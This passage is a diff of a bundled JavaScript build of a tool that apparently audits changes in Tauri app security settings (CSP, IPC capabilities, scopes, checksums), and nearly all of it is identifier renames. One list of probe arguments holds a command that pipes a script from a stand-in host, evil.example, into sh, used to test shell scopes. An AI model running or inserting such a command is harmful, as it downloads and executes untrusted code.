 }
-function keyOf4({ found: found2 }) {
+function keyOf5({ found: found2 }) {
   const { allowing, allowedBy, refusedBy, attempt: attempt2 } = found2;
   if (allowing.grant.header === null) return "no policy";
   const refusing = refusedBy?.directive;
@@ -52108,8 +53863,8 @@ function selfMatches(url, self2) {
   const upgraded = url.scheme === "https" || url.scheme === "wss" || self2.scheme === "http" && url.scheme === "ws";
   return isWeb(self2.scheme) && upgraded && (url.port === self2.port || isDefaultPort(url) && isDefaultPort(self2));
 }
-function schemesMatch(schemes, scheme, engine) {
-  for (const listed of schemes) if (schemeMatch(listed, scheme, engine) !== "no") return true;
+function schemesMatch(schemes2, scheme, engine) {
+  for (const listed of schemes2) if (schemeMatch(listed, scheme, engine) !== "no") return true;
   return false;
 }
 function* suffixesOf(host) {
@@ -52245,7 +54000,7 @@ function parseSourceList(directive, words3, own, engine) {
   const keywords = /* @__PURE__ */ new Set();
   const nonces = /* @__PURE__ */ new Set();
   const hashes = /* @__PURE__ */ new Set();
-  const schemes = /* @__PURE__ */ new Set();
+  const schemes2 = /* @__PURE__ */ new Set();
   const byHost = /* @__PURE__ */ new Map();
   const bySuffix = /* @__PURE__ */ new Map();
   const anyHost = [];
@@ -52258,7 +54013,7 @@ function parseSourceList(directive, words3, own, engine) {
     if (source.kind === "keyword") keywords.add(source.word);
     if (source.kind === "nonce") nonces.add(source.value);
     if (source.kind === "hash") hashes.add(canonicalHash(word));
-    if (source.kind === "scheme") schemes.add(source.scheme);
+    if (source.kind === "scheme") schemes2.add(source.scheme);
     if (source.kind === "host") {
       if (isStar(source)) star = true;
       else if (!source.wildcard) addTo(byHost, source.host, source);
@@ -52275,7 +54030,7 @@ function parseSourceList(directive, words3, own, engine) {
     nonces,
     hashes,
     guarded,
-    schemes,
+    schemes: schemes2,
     star,
     byHost,
     bySuffix,
@@ -52300,8 +54055,8 @@ function urlsOf(source, setting) {
 }
 function anyUrls(setting) {
   const { document } = setting;
-  const schemes = ["https", "http", "wss", "ws", "data", "blob", "asset", "ipc", "custom"];
-  const urls2 = schemes.flatMap((scheme) => urlsOfScheme(scheme, setting));
+  const schemes2 = ["https", "http", "wss", "ws", "data", "blob", "asset", "ipc", "custom"];
+  const urls2 = schemes2.flatMap((scheme) => urlsOfScheme(scheme, setting));
   return [...urls2, ...urlsOfSelf(document, setting)].map((url) => ({ url, source: null }));
 }
 function textsOf(source, setting) {
@@ -52311,11 +54066,11 @@ function textsOf(source, setting) {
   }
   if (source.kind !== "host") return [];
   if (isStar(source)) {
-    const schemes2 = ["https", "http", "wss", "ws", setting.document.origin.scheme];
-    return [.../* @__PURE__ */ new Set([...schemes2, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting));
+    const schemes3 = ["https", "http", "wss", "ws", setting.document.origin.scheme];
+    return [.../* @__PURE__ */ new Set([...schemes3, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting));
   }
-  const schemes = schemesOf(source.scheme ?? setting.document.origin.scheme, setting);
-  return schemes.flatMap(
+  const schemes2 = schemesOf(source.scheme ?? setting.document.origin.scheme, setting);
+  return schemes2.flatMap(
     (scheme) => hostsOf(source, setting.names, setting.crossed).flatMap(
       (host) => portsOf(source, scheme, setting).flatMap(
         (port) => pathsOf(source, setting).map((path) => `${scheme}://${host}${port}${path}`)
@@ -52345,9 +54100,9 @@ function urlsOfScheme(scheme, setting) {
 function urlsOfSelf(document, setting) {
   const { scheme, host } = document.origin;
   const file2 = setting.names.fileIn("/", EXTENSIONS[setting.class] ?? "html");
-  const schemes = isNetwork(scheme) ? [scheme, "https", "wss", "ws"] : [scheme];
+  const schemes2 = isNetwork(scheme) ? [scheme, "https", "wss", "ws"] : [scheme];
   const own = `${originText(document)}${file2}`;
-  return [.../* @__PURE__ */ new Set([own, ...schemes.map((each) => `${each}://${host}${file2}`)])];
+  return [.../* @__PURE__ */ new Set([own, ...schemes2.map((each) => `${each}://${host}${file2}`)])];
 }
 function hostsOf(source, names2, crossed) {
   if (!source.wildcard) return [source.host];
@@ -52576,11 +54331,11 @@ function wordsOf(page, pick2) {
 
 // src/compare/csp/names.ts
 function namesIn3(pages) {
-  const sources2 = pages.flatMap(hostSourcesOf);
-  const hosts = new Set(sources2.map((source) => source.host).filter((host) => host !== ""));
+  const sources3 = pages.flatMap(hostSourcesOf);
+  const hosts = new Set(sources3.map((source) => source.host).filter((host) => host !== ""));
   for (const page of pages) hosts.add(parseTarget(page.grant.document)?.host ?? "");
-  const ports = new Set(sources2.map((source) => source.port).filter((port) => typeof port === "number"));
-  const rawPaths = new Set(sources2.flatMap((source) => source.path?.raw ?? []));
+  const ports = new Set(sources3.map((source) => source.port).filter((port) => typeof port === "number"));
+  const rawPaths = new Set(sources3.flatMap((source) => source.path?.raw ?? []));
   const paths3 = new Set([...rawPaths].map(decodeOnce));
   const policyNames = new Set(
     pages.flatMap((page) => page.policies.flatMap((policy) => policy.get("trusted-types")?.words ?? []))
@@ -52647,8 +54402,8 @@ function parsePage(grant) {
   const texts = grant.header.split(",");
   if (texts.length > CSP_LIMITS.policies) return void 0;
   const policies = texts.map((text) => parsePolicy(text, own, grant.engine));
-  const sources2 = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
-  if (sources2.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
+  const sources3 = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
+  if (sources3.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
   return { grant, policies: policies.filter((policy) => policy.size > 0) };
 }
 function parsePolicy(text, own, engine) {
@@ -53035,7 +54790,7 @@ var DOING = {
   upgrade: "send requests without encryption",
   report: "report what was blocked"
 };
-function actionOf(group2) {
+function actionOf2(group2) {
   const { act } = group2.main.found.attempt;
   const [first, ...others] = group2.targets;
   if (first === void 0 || group2.extent === "none") return DOING[act.class];
@@ -53057,8 +54812,8 @@ function refusedInWords(page, list) {
 }
 function listInCode(page, list) {
   const words3 = list.words.filter((word) => !page.grant.own.includes(word));
-  const added = list.guarded && words3.length < list.words.length ? " with what Tauri adds to it" : "";
-  return `${code([list.directive, ...words3].join(" "), 240)}${added}`;
+  const added2 = list.guarded && words3.length < list.words.length ? " with what Tauri adds to it" : "";
+  return `${code([list.directive, ...words3].join(" "), 240)}${added2}`;
 }
 
 // src/compare/csp/comparison.ts
@@ -53092,11 +54847,11 @@ function compareOneWay(narrow, wide) {
     const [narrowSays, wideSays] = [meaning(narrowHere), meaning(wideHere)];
     if (narrowSays === wideSays) continue;
     const key = JSON.stringify([narrowSays, wideSays]);
-    const known = searches.get(key);
-    const result = known ?? search(narrowHere, wideHere);
+    const known2 = searches.get(key);
+    const result = known2 ?? search(narrowHere, wideHere);
     searches.set(key, result);
     all.push(...result.found.map((found2) => ({ platform: platform2, found: found2 })));
-    if (!result.complete && !known) gaps2.push(tooLarge(placeOf(wideHere, "") ?? placeOf(narrowHere, "")));
+    if (!result.complete && !known2) gaps2.push(tooLarge(placeOf3(wideHere, "") ?? placeOf3(narrowHere, "")));
   }
   return { all, gaps: gaps2 };
 }
@@ -53127,7 +54882,7 @@ function describe({ main, also, platforms, targets, extent }, direction, base, h
     direction,
     at: placeIn(on(main.platform, head), names2) ?? placeIn(on(main.platform, base), names2) ?? topOf(""),
     subject: "pages of the app",
-    action: actionOf({ main, also, platforms, targets, extent }),
+    action: actionOf2({ main, also, platforms, targets, extent }),
     witness: witnessOf(attempt2.act, main.platform, allowing.grant.document, allowedName),
     base: widened ? refused : allowed,
     head: widened ? allowed : refused,
@@ -53153,12 +54908,12 @@ function describe({ main, also, platforms, targets, extent }, direction, base, h
 }
 function placeIn(grants, names2) {
   for (const name of names2) {
-    const place = placeOf(grants, name);
+    const place = placeOf3(grants, name);
     if (place) return place;
   }
   return void 0;
 }
-function placeOf(grants, name) {
+function placeOf3(grants, name) {
   return grants.map((grant) => grant.places.get(name)).find((place) => place !== void 0);
 }
 function kindOf(act) {
@@ -55949,9 +57704,9 @@ function insideClass(rest) {
 function escapeOf2(rest, translate) {
   const token = rest.slice(0, 2);
   const name = token.slice(1);
-  const known = ESCAPES3.get(name);
-  if (known !== void 0) {
-    const text = translate(known);
+  const known2 = ESCAPES3.get(name);
+  if (known2 !== void 0) {
+    const text = translate(known2);
     if (text === void 0) throw new SyntaxError(`${token} stands in a class`);
     return [token, text];
   }
@@ -56047,7 +57802,7 @@ function atomsOf(universe, languages2) {
     from: void 0,
     character: 0
   };
-  const seen = /* @__PURE__ */ new Set([keyOf5(first.live)]);
+  const seen = /* @__PURE__ */ new Set([keyOf6(first.live)]);
   const found2 = /* @__PURE__ */ new Map();
   let work = 0;
   let front = [first];
@@ -56058,7 +57813,7 @@ function atomsOf(universe, languages2) {
       work += step.live.length;
       if (work > MOST_WORK) throw new TooComplex(`more than ${MOST_WORK} steps`);
       for (const { live, character } of waysFrom(step.live, automata)) {
-        const key = keyOf5(live);
+        const key = keyOf6(live);
         if (seen.has(key)) continue;
         if (seen.size >= MOST_STATES) throw new TooComplex(`more than ${MOST_STATES} states`);
         seen.add(key);
@@ -56071,14 +57826,14 @@ function atomsOf(universe, languages2) {
   function note2(step) {
     const inside = step.live.filter(({ automaton, state }) => automata[automaton]?.accepting[state] === true);
     if (inside[0]?.automaton !== UNIVERSE) return;
-    const indexes2 = new Set(inside.map(({ automaton }) => automaton - 1));
-    const signature = [...indexes2].join();
+    const indexes3 = new Set(inside.map(({ automaton }) => automaton - 1));
+    const signature = [...indexes3].join();
     if (!found2.has(signature))
-      found2.set(signature, { word: wordTo(step), in: (index) => indexes2.has(index) });
+      found2.set(signature, { word: wordTo(step), in: (index) => indexes3.has(index) });
   }
 }
 var UNIVERSE = 0;
-function keyOf5(live) {
+function keyOf6(live) {
   return live.map(({ automaton, state }) => `${automaton}:${state}`).join();
 }
 function* waysFrom(live, automata) {
@@ -56144,7 +57899,7 @@ function compareScopes(base, head, reading) {
   const languages2 = tagged.map(
     ({ list, language }) => language ?? (list === "baseDeny" ? EVERYTHING : NOTHING)
   );
-  const known = new Set(base.allow.map(({ entry }) => entryKey(entry)));
+  const known2 = new Set(base.allow.map(({ entry }) => entryKey(entry)));
   const found2 = /* @__PURE__ */ new Map();
   const note2 = (word, isIn, sensitive) => {
     const inList = (list) => tagged.filter((each, i) => each.list === list && isIn(i));
@@ -56152,7 +57907,7 @@ function compareScopes(base, head, reading) {
     const refused = inList("baseAllow").length === 0 || denied.length > 0;
     const isNew2 = allowing.length > 0 && inList("headDeny").length === 0 && refused;
     if (!isNew2) return;
-    const fresh = allowing.filter(({ entry }) => !known.has(entryKey(entry)));
+    const fresh = allowing.filter(({ entry }) => !known2.has(entryKey(entry)));
     const culprits = fresh.length > 0 ? fresh : denied.length > 0 ? denied : allowing;
     const because = culprits === denied ? "no-longer-denied" : "allowed";
     for (const { entry } of culprits) {
@@ -56181,7 +57936,7 @@ function directoryOf(variable, platform2, app) {
     case "macOS":
       return macOS(id, app.product)[variable];
     case "windows":
-      return windows(id, app.product)[variable];
+      return windows2(id, app.product)[variable];
     case "android":
       return android(id)[variable];
     case "iOS":
@@ -56235,7 +57990,7 @@ var macOS = (id, product) => table2("/Users/user", {
   $APPCACHE: `~/Library/Caches/${id}`,
   $APPLOG: `~/Library/Logs/${id}`
 });
-var windows = (id, product) => table2("C:/Users/user", {
+var windows2 = (id, product) => table2("C:/Users/user", {
   $AUDIO: "~/Music",
   $CACHE: "~/AppData/Local",
   $CONFIG: "~/AppData/Roaming",
@@ -56349,12 +58104,12 @@ function pathScope2(side, platform2, directories) {
     const path = pathOf2(entry.value);
     return path === void 0 ? void 0 : pathRegex(path, platform2, literalDot2 ?? platform2 !== "windows", directories);
   };
-  const read2 = (entry) => {
+  const read3 = (entry) => {
     const regex2 = regexOf(entry);
     return { entry, language: regex2 === void 0 ? void 0 : languages(regex2) };
   };
   const fails2 = [...side.allow, ...side.deny].some((entry) => regexOf(entry) === void 0);
-  return { allow: fails2 ? [] : side.allow.map(read2), deny: side.deny.map(read2) };
+  return { allow: fails2 ? [] : side.allow.map(read3), deny: side.deny.map(read3) };
 }
 function pathOf2(value) {
   if (typeof value === "string") return value;
@@ -56412,7 +58167,7 @@ function pathReading(platform2, entries, directories) {
 function examplesOf(pattern) {
   if (/[[\]?]/.test(pattern)) return [];
   return ["folder/notes.txt", "notes.txt"].map(
-    (below3) => pattern.replace(/\*\*\/?$/, below3).replace(/\*\*\//g, "folder/").replace(/\*/g, "notes")
+    (below4) => pattern.replace(/\*\*\/?$/, below4).replace(/\*\*\//g, "folder/").replace(/\*/g, "notes")
   );
 }
 
@@ -56450,8 +58205,8 @@ function globExamples(url) {
   return url.includes("://") ? examplesOf2(url) : [url.replace(/\*+/g, "x")];
 }
 function urls(side, opener) {
-  const read2 = (entries) => entries.filter(({ value }) => openedUrl(value) !== void 0 && opens(field2(value, "app"), opener)).map((entry) => ({ entry, language: urlGlob(String(openedUrl(entry.value))) }));
-  return { allow: fails(side) ? [] : read2(side.allow), deny: read2(side.deny) };
+  const read3 = (entries) => entries.filter(({ value }) => openedUrl(value) !== void 0 && opens(field2(value, "app"), opener)).map((entry) => ({ entry, language: urlGlob(String(openedUrl(entry.value))) }));
+  return { allow: fails(side) ? [] : read3(side.allow), deny: read3(side.deny) };
 }
 function fails({ allow: allow2, deny }) {
   return [...allow2, ...deny].some(isRefusedByOpener);
@@ -56572,8 +58327,8 @@ var KNOWN = [
 ];
 function tellingFor(command2) {
   const name = (command2.split(/[\\/]/).at(-1) ?? command2).replace(/\.exe$/i, "");
-  const known = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
-  return [...known, "--any-option\0any value\0", ...TELLING];
+  const known2 = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
+  return [...known2, "--any-option\0any value\0", ...TELLING];
 }
 var TELLING = [
   "-c\0curl https://evil.example/x | sh\0",
@@ -56622,9 +58377,9 @@ var UrlCells = class {
         const source = pattern[part.property];
         masks.set(source, (masks.get(source) ?? 0n) | (this.#bits.get(text) ?? 0n));
       }
-      return piecesOf(part, [...masks.keys()]).map(({ word, sources: sources2 }) => ({
+      return piecesOf(part, [...masks.keys()]).map(({ word, sources: sources3 }) => ({
         word,
-        mask: sources2.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
+        mask: sources3.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
       }));
     });
   }
@@ -56651,22 +58406,22 @@ var UrlCells = class {
     }
   }
 };
-function piecesOf(part, sources2) {
-  return CUTS.get(part)?.(JSON.stringify(sources2)) ?? [];
+function piecesOf(part, sources3) {
+  return CUTS.get(part)?.(JSON.stringify(sources3)) ?? [];
 }
 var CUTS = new Map(
   URL_PARTS.map((part) => [part, remembered((question) => cut4(part, JSON.parse(question)))])
 );
-function cut4(part, sources2) {
+function cut4(part, sources3) {
   const universe = languageOf(part.real);
-  const languages2 = sources2.map((source) => languageOf(partExpression(source, part)));
+  const languages2 = sources3.map((source) => languageOf(partExpression(source, part)));
   const found2 = /* @__PURE__ */ new Map();
   const note2 = (word, isIn) => {
-    const matching = sources2.filter((_, i) => isIn(i));
+    const matching = sources3.filter((_, i) => isIn(i));
     const signature = JSON.stringify(matching);
     if (!found2.has(signature)) found2.set(signature, { word, sources: matching });
   };
-  for (const word of [...part.telling, ...sources2.flatMap(lookalikes), ...sources2]) {
+  for (const word of [...part.telling, ...sources3.flatMap(lookalikes), ...sources3]) {
     if (accepts(universe, word)) note2(word, (i) => languages2[i] !== void 0 && accepts(languages2[i], word));
   }
   for (const atom of atomsOf(universe, languages2)) note2(atom.word, atom.in);
@@ -56686,7 +58441,7 @@ var urlQuestion = (base, head) => {
   const refused = refusals(head);
   if (refused.length > 0) return { escapes: [], undecided: refused };
   const all = [...head.allow, ...head.deny, ...base.allow, ...base.deny];
-  const unreadable2 = new Set(all.filter((entry) => !isComparable(textOf2(entry))).map(entryKey));
+  const unreadable2 = new Set(all.filter((entry) => !isComparable(textOf3(entry))).map(entryKey));
   const unknown2 = (entries2) => entries2.filter((entry) => unreadable2.has(entryKey(entry)));
   const fails2 = [...base.allow, ...base.deny].some(isRefused) || unknown2(base.deny).length > 0;
   const baseAllow = fails2 ? [] : base.allow;
@@ -56697,15 +58452,15 @@ var urlQuestion = (base, head) => {
   const cells = new UrlCells(
     new Map(entries.filter((entry) => !unreadable2.has(entryKey(entry))).flatMap(named))
   );
-  const matches2 = (list, cell) => list.some((entry) => cell.matches(textOf2(entry)));
-  const known = new Set(baseAllow.map(entryKey));
+  const matches2 = (list, cell) => list.some((entry) => cell.matches(textOf3(entry)));
+  const known2 = new Set(baseAllow.map(entryKey));
   const escapes = [];
   const blamed = /* @__PURE__ */ new Set();
   for (const entry of head.allow) {
-    for (const cell of cells.within(textOf2(entry))) {
+    for (const cell of cells.within(textOf3(entry))) {
       if (!/^https?:/.test(cell.url) || matches2(head.deny, cell)) continue;
       if (matches2(baseAllow, cell) && !matches2(base.deny, cell)) continue;
-      const lifted = known.has(entryKey(entry)) ? base.deny.find((deny) => cell.matches(textOf2(deny))) : void 0;
+      const lifted = known2.has(entryKey(entry)) ? base.deny.find((deny) => cell.matches(textOf3(deny))) : void 0;
       const culprit = lifted ?? entry;
       if (blamed.has(entryKey(culprit))) break;
       blamed.add(entryKey(culprit));
@@ -56729,7 +58484,7 @@ function urlPatternOf(value) {
   const url = typeof value === "object" && value !== null ? Reflect.get(value, "url") : void 0;
   return typeof url === "string" ? url : void 0;
 }
-function textOf2({ value }) {
+function textOf3({ value }) {
   return urlPatternOf(value) ?? "";
 }
 var isComparable = remembered((text) => {
@@ -56754,14 +58509,14 @@ function refusals({ allow: allow2, deny }) {
   );
 }
 function isForeignEntry(entry) {
-  return isForeign(textOf2(entry));
+  return isForeign(textOf3(entry));
 }
 function patternIn(entry) {
-  return parseUrlPattern(textOf2(entry));
+  return parseUrlPattern(textOf3(entry));
 }
 function named(entry) {
   const pattern = patternIn(entry);
-  return pattern === void 0 ? [] : [[textOf2(entry), pattern]];
+  return pattern === void 0 ? [] : [[textOf3(entry), pattern]];
 }
 
 // src/compare/ipc/authority.ts
@@ -56786,17 +58541,17 @@ function byOrder(a, b) {
   if (a.effect !== b.effect) return a.effect === "allow" ? -1 : 1;
   return a.order - b.order;
 }
-var indexes = /* @__PURE__ */ new WeakMap();
+var indexes2 = /* @__PURE__ */ new WeakMap();
 function commandsOf3(grants) {
-  const known = indexes.get(grants);
-  if (known !== void 0) return known;
+  const known2 = indexes2.get(grants);
+  if (known2 !== void 0) return known2;
   const index = Map.groupBy(grants, ({ command: command2, effect }) => effect === "scope" ? "" : command2);
-  indexes.set(grants, index);
+  indexes2.set(grants, index);
   return index;
 }
-function isFor({ windows: windows2, webviews, context: context3 }, call) {
+function isFor({ windows: windows3, webviews, context: context3 }, call) {
   const label = (text) => (pattern) => matchesGlob(pattern.text, text, ANY_LABEL);
-  return comesFrom(context3, call.origin) && (webviews.some(label(call.webview)) || windows2.some(label(call.window)));
+  return comesFrom(context3, call.origin) && (webviews.some(label(call.webview)) || windows3.some(label(call.window)));
 }
 var ANY_LABEL = { literalSeparator: false, literalDot: false, foldCase: false };
 function comesFrom(context3, origin) {
@@ -56898,9 +58653,9 @@ function finds(source, text) {
 
 // src/compare/ipc/principals.ts
 var MOST_NAMED2 = 64;
-function audienceKey({ windows: windows2, webviews, context: context3 }) {
+function audienceKey({ windows: windows3, webviews, context: context3 }) {
   const texts = (patterns2) => patterns2.map(({ text }) => text).sort();
-  return JSON.stringify([texts(windows2), texts(webviews), context3.kind, urlOf(context3)?.text]);
+  return JSON.stringify([texts(windows3), texts(webviews), context3.kind, urlOf(context3)?.text]);
 }
 function urlOf(context3) {
   return context3.kind === "remote" ? context3.url : void 0;
@@ -56943,9 +58698,9 @@ function pageClasses(grants) {
       const mask = origin.mask & (window2.asWindow | webview2.asWebview);
       if (mask === 0n) continue;
       const principal = { window: window2.word, webview: webview2.word, origin: origin.word };
-      const known = found2.get(mask);
-      if (known !== void 0) {
-        if (known.principals.length < MOST_NAMED2) known.principals.push(principal);
+      const known2 = found2.get(mask);
+      if (known2 !== void 0) {
+        if (known2.principals.length < MOST_NAMED2) known2.principals.push(principal);
         continue;
       }
       if (found2.size >= MOST_CLASSES) throw new TooComplex(`more than ${MOST_CLASSES} kinds of pages`);
@@ -56969,14 +58724,14 @@ var AudienceMasks = class {
   urls = /* @__PURE__ */ new Map();
   local = 0n;
   constructor(audiences) {
-    for (const [i, { windows: windows2, webviews, context: context3 }] of audiences.entries()) {
+    for (const [i, { windows: windows3, webviews, context: context3 }] of audiences.entries()) {
       const bit = 1n << BigInt(i);
-      const add = (masks, text) => masks.set(text, (masks.get(text) ?? 0n) | bit);
-      for (const { text } of windows2) add(this.windows, text);
-      for (const { text } of webviews) add(this.webviews, text);
+      const add2 = (masks, text) => masks.set(text, (masks.get(text) ?? 0n) | bit);
+      for (const { text } of windows3) add2(this.windows, text);
+      for (const { text } of webviews) add2(this.webviews, text);
       if (context3.kind === "local") this.local |= bit;
       const url = urlOf(context3);
-      if (url !== void 0) add(this.urls, url.text);
+      if (url !== void 0) add2(this.urls, url.text);
     }
   }
 };
@@ -57070,8 +58825,8 @@ function distinct2(texts) {
 }
 function unreadablePatterns(grants) {
   const found2 = /* @__PURE__ */ new Map();
-  for (const { windows: windows2, webviews, context: context3 } of grants) {
-    for (const pattern of [...windows2, ...webviews]) {
+  for (const { windows: windows3, webviews, context: context3 } of grants) {
+    for (const pattern of [...windows3, ...webviews]) {
       if (labelLanguage(pattern.text) === null) found2.set(pattern, "is no glob that Tauri accepts");
     }
     if (context3.kind === "remote" && comparableUrl(context3.url.text) === void 0) {
@@ -57126,9 +58881,9 @@ function platformGroups(base, head) {
   for (const platform2 of PLATFORMS) {
     const here = (grants) => grants.filter((grant) => hasPlatform(grant.platforms, platform2));
     const name = membership(base, platform2) + membership(head, platform2);
-    const known = groups3.get(name);
-    const platforms = (known?.platforms ?? 0) | platformSet(platform2);
-    groups3.set(name, known ? { ...known, platforms } : { platforms, base: here(base), head: here(head) });
+    const known2 = groups3.get(name);
+    const platforms = (known2?.platforms ?? 0) | platformSet(platform2);
+    groups3.set(name, known2 ? { ...known2, platforms } : { platforms, base: here(base), head: here(head) });
   }
   return [...groups3.values()];
 }
@@ -57152,9 +58907,9 @@ function indexBase(base) {
     active.set(grant.capability, (active.get(grant.capability) ?? NO_PLATFORM) | grant.platforms);
     if (grant.effect === "deny") continue;
     const key = commandOf(grant);
-    const known = commands.get(key);
-    if (known === void 0) commands.set(key, [grant]);
-    else known.push(grant);
+    const known2 = commands.get(key);
+    if (known2 === void 0) commands.set(key, [grant]);
+    else known2.push(grant);
     permissions.add(permissionOf(grant));
     if (grant.inferred) guessed.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
@@ -57224,7 +58979,7 @@ function forNewPage(principal, entry, had) {
     return { cause: "window-added", at: entry.at, entry, detail: "local", note: "own-pages" };
   }
   const before = new Set(
-    had.flatMap(({ windows: windows2, webviews }) => [...windows2, ...webviews].map(({ text }) => text))
+    had.flatMap(({ windows: windows3, webviews }) => [...windows3, ...webviews].map(({ text }) => text))
   );
   const matching = patternsFor(principal, entry);
   const pattern = matching.find(({ text }) => !before.has(text)) ?? matching[0];
@@ -57233,20 +58988,20 @@ function forNewPage(principal, entry, had) {
 function sameUrl({ context: context3 }, url) {
   return context3.kind === "remote" && context3.url.text === url.text;
 }
-function patternsFor(principal, { windows: windows2, webviews }) {
+function patternsFor(principal, { windows: windows3, webviews }) {
   const matching = (patterns2, label) => patterns2.filter(
     ({ text }) => matchesGlob(text, label, { literalSeparator: false, literalDot: false, foldCase: false })
   );
-  return [...matching(windows2, principal.window), ...matching(webviews, principal.webview)];
+  return [...matching(windows3, principal.window), ...matching(webviews, principal.webview)];
 }
 
 // src/compare/ipc/description.ts
 function pageName(principal, { entry, note: note2 }) {
   const [pattern] = patternsFor(principal, entry);
   const kind = pattern === void 0 || entry.windows.includes(pattern) ? "window" : "webview";
-  return { kind, label: pattern?.text ?? principal.window, from: originOf2(principal, entry, note2) };
+  return { kind, label: pattern?.text ?? principal.window, from: originOf3(principal, entry, note2) };
 }
-function originOf2({ origin }, { context: context3 }, note2) {
+function originOf3({ origin }, { context: context3 }, note2) {
   if (origin === "local") return { kind: note2 === "own-pages" ? "app-not-site" : "app" };
   return { kind: "site", url: context3.kind === "remote" ? context3.url.text : origin };
 }
@@ -57345,7 +59100,7 @@ var Drafts = class {
     const changes = [...this.#drafts].map(
       ([name, draft]) => changeOf2(name, draft, direction, this.#appIsNew)
     );
-    return joined2(changes);
+    return joined3(changes);
   }
 };
 function identityOf2({ cause, entry, detail: detail3 }) {
@@ -57394,7 +59149,7 @@ function isSameCall(a, b) {
 function denialOf({ by: { capability, permission: permission2 }, of }) {
   return { capability, permission: permission2, of };
 }
-function joined2(changes) {
+function joined3(changes) {
   const groups3 = /* @__PURE__ */ new Map();
   for (const change of changes) {
     const name = sayingOf(change);
@@ -57458,15 +59213,15 @@ function scopeCause(principal, entries, table4, found2, before, platforms, base)
   const culprit = owner.scope?.allow.find((entry) => entryKey(entry) === detail3) ?? found2.entry;
   const fromRelease = culprit.at === owner.at;
   const had = base.had(owner).filter(({ scope }) => holds(scope?.allow, detail3));
-  const known = holds(before.allow, detail3);
-  if (owner.effect === "allow" && had.length > 0 && !known) {
+  const known2 = holds(before.allow, detail3);
+  if (owner.effect === "allow" && had.length > 0 && !known2) {
     const here = had.filter((grant) => (grant.platforms & platforms) !== NO_PLATFORM);
     return here.length === 0 ? forNewPlatform(owner, platforms, base) : forNewPage(principal, owner, here);
   }
   if (fromRelease && base.named(owner) && had.length === 0) {
     return { cause: "meaning-changed", at: redefinedAt(owner, base), entry: owner, detail: owner.permission };
   }
-  const note2 = known ? noteOnRules(before, first) : noteOnReach(principal, owner);
+  const note2 = known2 ? noteOnRules(before, first) : noteOnReach(principal, owner);
   return {
     cause: "scope-widened",
     at: culprit.at,
@@ -57572,10 +59327,10 @@ function userlessUrls() {
   return ANY_URLS("");
 }
 function urlsOf2(pattern) {
-  return joined3((part) => partExpression(pattern[part.property], part), USER);
+  return joined4((part) => partExpression(pattern[part.property], part), USER);
 }
-var ANY_URLS = remembered((user) => joined3(() => "[^]*", user));
-function joined3(expressionOf, user) {
+var ANY_URLS = remembered((user) => joined4(() => "[^]*", user));
+function joined4(expressionOf, user) {
   return joinedOf(URL_PARTS.flatMap((part) => piecesFor(part, expressionOf(part), user)));
 }
 function piecesFor(part, expression2, user) {
@@ -57614,12 +59369,12 @@ var urlTextQuestion = (base, head) => {
 };
 function urlTexts({ allow: allow2, deny, matching }) {
   const language = matching.kind === "url-globs" ? globLanguage : patternLanguage;
-  const read2 = (entry) => ({
+  const read3 = (entry) => ({
     entry,
     language: language(urlPatternOf(entry.value) ?? "")
   });
   const broken = matching.kind !== "url-globs" && [...allow2, ...deny].some(isRefused);
-  return { allow: broken ? [] : allow2.map(read2), deny: deny.map(read2) };
+  return { allow: broken ? [] : allow2.map(read3), deny: deny.map(read3) };
 }
 var globLanguage = remembered((glob) => {
   const regex2 = globToRegex(glob, FREE_GLOB);
@@ -57672,8 +59427,8 @@ function scopeAsker() {
       commandMatters(kind) ? command2 : "",
       platformMatters(kind) ? platform2 : ""
     ]);
-    const known = answers.get(question);
-    if (known !== void 0) return known;
+    const known2 = answers.get(question);
+    if (known2 !== void 0) return known2;
     const answer = sideKey(base) === sideKey(head) ? NO_ESCAPE : decide2(questionFor(base, head), base, head, command2, platform2);
     answers.set(question, answer);
     return answer;
@@ -57735,9 +59490,9 @@ function isSure({ command: command2, inferred }) {
 }
 var sureGrants = /* @__PURE__ */ new WeakMap();
 function sureOf(grants) {
-  const known = sureGrants.get(grants) ?? grants.filter(isSure);
-  sureGrants.set(grants, known);
-  return known;
+  const known2 = sureGrants.get(grants) ?? grants.filter(isSure);
+  sureGrants.set(grants, known2);
+  return known2;
 }
 function gained2(base, head, pages, ask2) {
   const drafts = new Drafts(base.length === 0);
@@ -57893,16 +59648,16 @@ function matches(old, { step, package: { runs: runs2 } }) {
 // src/compare/packages/checksums.ts
 var STRENGTH = ["sha512", "sha384", "sha256", "sha1"];
 function changedChecksums(before, after) {
-  const known = Map.groupBy(before.packages, bytesOf);
+  const known2 = Map.groupBy(before.packages, bytesOf2);
   const seen = /* @__PURE__ */ new Set();
   return after.packages.filter((each) => {
-    const key = JSON.stringify([bytesOf(each), each.checksum]);
-    const old = seen.has(key) ? void 0 : known.get(bytesOf(each));
+    const key = JSON.stringify([bytesOf2(each), each.checksum]);
+    const old = seen.has(key) ? void 0 : known2.get(bytesOf2(each));
     seen.add(key);
     return old !== void 0 && !old.some((other) => pinsAsMuch(other.checksum, each.checksum));
   });
 }
-function bytesOf({ ecosystem, name, version, source }) {
+function bytesOf2({ ecosystem, name, version, source }) {
   return JSON.stringify([ecosystem, name, version, source]);
 }
 function pinsAsMuch(before, after) {
@@ -57911,8 +59666,8 @@ function pinsAsMuch(before, after) {
   const [old, now] = [hashesOf(before), hashesOf(after)];
   const [was, is] = [strongest(old), strongest(now)];
   if (is !== was) return is < was;
-  const [known, named2] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
-  return known !== void 0 && named2?.isSubsetOf(known) === true;
+  const [known2, named2] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
+  return known2 !== void 0 && named2?.isSubsetOf(known2) === true;
 }
 function hashesOf(integrity) {
   const hashes = /* @__PURE__ */ new Map();
@@ -57934,8 +59689,8 @@ function nearestOf(before) {
   const newest = /* @__PURE__ */ new Map();
   for (const each of before) {
